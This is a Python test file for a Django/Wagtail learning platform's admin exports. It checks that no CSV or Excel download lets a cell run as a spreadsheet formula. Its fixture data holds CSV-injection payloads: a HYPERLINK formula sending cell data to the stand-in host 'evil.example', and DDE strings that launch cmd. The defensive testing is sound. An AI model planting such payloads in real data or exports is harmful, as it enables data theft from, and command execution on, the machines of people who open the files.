"""Security class: no export runs a formula.

Every CSV and Excel download of the admin — each report's ?export=csv/xlsx, every viewset's
`list_export`, Wagtail's own reports — is found by walking the URL configuration (so that a new
export cannot be forgotten), downloaded as a superuser in a world where a learner, a cohort, an
Action, a course and an offline session are named like formulas, and read back: no cell may start
with a character a spreadsheet would run, behind whitespace or not."""

import csv
import io

import openpyxl
import pytest
from django.test import TestCase
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.urls.exceptions import NoReverseMatch
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from lms.cascade import services as cascade
from lms.core.audit import log_change
from lms.core.masking import FORMULA_STARTS, spreadsheet_safe
from lms.learning import services as learning
from lms.models import ReportExport
from lms.reporting.reports import ProgrammeReportView
from tests import factories
from tests.lms.cascade_helpers import certified

from .conftest import answers

pytestmark = pytest.mark.django_db

LEARNER = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
COHORT = LEARNER  # a cohort named after its learner: a model instance rendered as text
ACTION = "@SUM(1+1)*cmd|' /C calc'!A0"
COURSE = " =1+1 course"  # behind whitespace
SESSION_PLACE = "-2+3+cmd|' /C calc'!A0"
INSTITUTION = "+1+1 Ministry"
# The names each export run must show defused somewhere (no admin export lists sessions' places
# today; the session is in the world so that a future one is covered by the walk).
POISON = [LEARNER, ACTION, COURSE.strip()]


def runs_as_formula(cell):
    if not isinstance(cell, str):
        return False
    return cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(FORMULA_STARTS)


@pytest.mark.parametrize(
    "value, safe",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),
        ("\u00a0@A1", "'\u00a0@A1"),
        ("Sofía Quirós", "Sofía Quirós"),
        ("a=b", "a=b"),
        (-3, -3),
        (None, None),
    ],
)
def test_spreadsheet_safe_neutralises_every_formula_start(value, safe):
    """A formula start, also behind spaces or a no-break space, gets an apostrophe; text that only
    contains one, numbers and empty cells are left as they are."""
    assert spreadsheet_safe(value) == safe


def export_views():
    """(URL name, view class, list_export) of every admin view that can answer ?export=…,
    found in the URL configuration: those without arguments in their address."""
    found = []

    def walk(patterns, namespace):
        for entry in patterns:
            if isinstance(entry, URLResolver):
                inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
                walk(entry.url_patterns, inner)
            elif isinstance(entry, URLPattern) and entry.name:
                view_class = getattr(entry.callback, "view_class", None)
                if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
                    continue
                initkwargs = getattr(entry.callback, "view_initkwargs", {})
                list_export = initkwargs.get("list_export", view_class.list_export)
                if not list_export:
                    continue
                try:
                    url = reverse(f"{namespace}{entry.name}")
                except NoReverseMatch:
                    continue
                found.append((f"{namespace}{entry.name}", url, view_class))

    walk(get_resolver().url_patterns, "")
    return found


@pytest.fixture
def poisoned(make_course, make_cohort, make_action, finish):
    """A learner, their cohort, Action and course, and an offline session, all named as formulas;
    the learner finished (certificate, feedback), became a multiplier, reported the session and
    left an entry in the site history."""
    action = make_action(ACTION, slug="poisoned")
    course, _lessons, assessment = make_course("key", max_attempts=3)
    course.title = COURSE
    course.trains_multipliers = True
    course.save_revision().publish()
    make_cohort(course, name=COHORT, enrolment_key="POISON", action=action)
    learner = factories.UserFactory(full_name=LEARNER, country="CR", gender="female")
    enrolment, _created = learning.enrol(learner, course, key="POISON")
    learning.submit_assessment(enrolment, assessment, answers(assessment, right=False), submission_token="p1")
    enrolment = finish(enrolment)
    learning.record_feedback(
        enrolment, ratings={"objectives_clear": 4, "relevant": 4, "real_difference": 5, "would_recommend": 4}
    )
    multiplier = certified(enrolment)
    cascade.record_session(
        multiplier,
        date=enrolment.completed_at.date(),
        place=SESSION_PLACE,
        institution=INSTITUTION,
        modules_covered="=1+1",
        female=3,
        male=1,
        other=0,
    )
    log_change(enrolment, "lms.enrolment.withdraw", action=action.pk, user=learner)
    return {"learner": learner, "action": action}


def download(client, name, url, view_class, export_format):
    """The file an export URL gives; a report's Excel file is built in the background and then
    fetched from the user's exports."""
    if issubclass(view_class, ProgrammeReportView) and export_format == "xlsx":
        with TestCase.captureOnCommitCallbacks(execute=True):
            response = client.get(url, {"export": "xlsx"})
        assert response.status_code == 302, name
        export = ReportExport.objects.latest("pk")
        assert export.status == ReportExport.Status.READY, name
        response = client.get(reverse("lms_reports:export_download", args=[export.pk]))
    else:
        response = client.get(url, {"export": export_format})
    assert response.status_code == 200, name
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(content):
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    return [cell for row in rows for cell in row]


def xlsx_cells(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            cells.append(cell.value)
    return cells


def test_no_export_runs_a_formula(client, poisoned):
    """Every export URL, in CSV and in Excel: no cell starts a formula, and each poisoned name is
    there, defused, in some export (so that the walk cannot pass by finding nothing)."""
    client.force_login(factories.SuperuserFactory())
    views = export_views()
    names = {name for name, _url, _view in views}
    # The walk finds our reports, our viewsets' list_export and Wagtail's own reports.
    assert {
        "lms_reports:enrolments",
        "lms_reports:outcomes",
        "lms_reports:reach",
        "lms_reports:feedback",
        "enrolments:index",
        "wagtailadmin_reports:site_history",
        "wagtailadmin_reports:aging_pages",
    } <= names, names
    seen = []
    for name, url, view_class in views:
        for export_format, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
            cells = read(download(client, name, url, view_class, export_format))
            assert cells, (name, export_format)
            formulas = [cell for cell in cells if runs_as_formula(cell)]
            assert formulas == [], (name, export_format, formulas)
            seen += [cell for cell in cells if isinstance(cell, str)]
    for poison in POISON:
        assert any(poison in cell and cell.startswith("'") for cell in seen), poison
